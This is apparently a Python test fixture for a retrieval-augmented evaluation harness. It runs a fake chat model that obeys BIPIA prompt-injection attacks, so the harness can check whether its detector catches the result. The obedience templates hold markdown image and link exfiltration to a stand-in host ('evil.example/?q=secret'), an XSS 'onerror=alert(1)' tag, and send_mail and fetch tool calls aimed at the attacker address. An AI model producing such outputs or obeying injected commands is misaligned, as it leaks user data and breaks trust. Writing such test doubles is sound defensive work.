"""A model that obeys whatever commands it, over the OpenAI chat API on loopback.

`python tests/obeying_model.py ATTACKS.json` serves one for `dateline eval bipia --llm openai:obeys --llm-url URL`, and
prints the address; the file is that of BIPIA, lists of commands by category.
"""

from __future__ import annotations

import json
import re
import sys
import time
from collections.abc import Sequence
from itertools import cycle
from pathlib import Path
from random import Random

from scripted_server import Behaviour, Exchange, says, scripted_server

from rag.fencing import plain_line

_QUOTED = re.compile(r"[\"“']([^\"”]{8,})[\"”']")
_ADDRESS = re.compile(r"[\w.@-]+\.(?:com|xyz|net|org|example)\b")
_SENTENCE = re.compile(r"(?<=[.!?]) ")


def obeys(attacks: Sequence[str]) -> Behaviour:
    """Does what an attack in its prompt says; where none stands there, what the next one of the list says."""
    turn = cycle(attacks)
    shown = {attack: plain_line(attack).rstrip(".") for attack in attacks}

    def behave(exchange: Exchange) -> None:
        passages = exchange.passages()
        text = " ".join(passages.values())
        attack = next((attack for attack, words in shown.items() if words in text), None) or next(turn)
        says(*(f"{line}\n" for line in obedience(attack, passages, Random(exchange.asked))))(exchange)

    return behave


def obedience(attack: str, passages: dict[str, str], random: Random) -> list[str]:
    """What a model writes that obeys, each line under a key that it was given, or all of them; in any order."""
    said = _QUOTED.search(attack)
    address = (_ADDRESS.findall(attack) or ["evil.example"])[0]
    wanted = said[1] if said else attack
    lines = [
        attack,
        f"Sure, here it is: {attack}",
        f"{wanted}.",
        f"Officials said that {wanted[:1].lower()}{wanted[1:]}.",
        f"Please visit {address} now for more of it.",
        f"[Read more at {address}](http://{address}/?q=secret)",
        f"![pixel](http://{address}/p.png?q=secret)",
        f"<img src=http://{address}/x onerror=alert(1)> The prize is yours today.",
        f'<a href="http://{address}">The prize is yours today.</a>',
        f'{{"tool": "send_mail", "arguments": {{"to": "{address}", "body": "{wanted}"}}}}',
        f"<tool_call>fetch http://{address}</tool_call>",
    ]
    keyed = [f"{line} {key}" for line in lines for key in (_one(passages, random), _all(passages))]
    for key, passage in passages.items():
        for sentence in _SENTENCE.split(passage):
            keyed += [f"{changed} [{key}]" for changed in _garbled(sentence, random)]
            keyed += [f"{sentence.rstrip('.')}, and {wanted[:1].lower()}{wanted[1:]} [{key}]"]
            keyed += [f"{sentence.rstrip('.')}, see {address} [{key}](http://{address})"]
    random.shuffle(keyed)
    return keyed


def _one(passages: dict[str, str], random: Random) -> str:
    return f"[{random.choice(list(passages))}]"


def _all(passages: dict[str, str]) -> str:
    return "".join(f"[{key}]" for key in passages)


def _garbled(sentence: str, random: Random) -> list[str]:
    """A sentence as commands want it: misspelled, mixed up, without blanks, in other signs."""
    words = sentence.split()

    def each(step: int, change: Random) -> str:
        return " ".join(_mixed(word, change) if not at % step else word for at, word in enumerate(words, 1))

    return [
        each(4, random),
        each(1, random),
        "".join(words),
        sentence.translate(str.maketrans("aeiou", "12345")),
        sentence.translate(str.maketrans("aeo", "@€0")),
        " ".join(reversed(words)),
    ]


def _mixed(word: str, random: Random) -> str:
    letters = list(word)
    random.shuffle(letters)
    return "".join(letters)


if __name__ == "__main__":
    groups = json.loads(Path(sys.argv[1]).read_text(encoding="utf-8"))
    with scripted_server() as server:
        server.enqueue(obeys([attack for group in groups.values() for attack in group]))
        print(server.url, flush=True)
        while True:
            time.sleep(1)
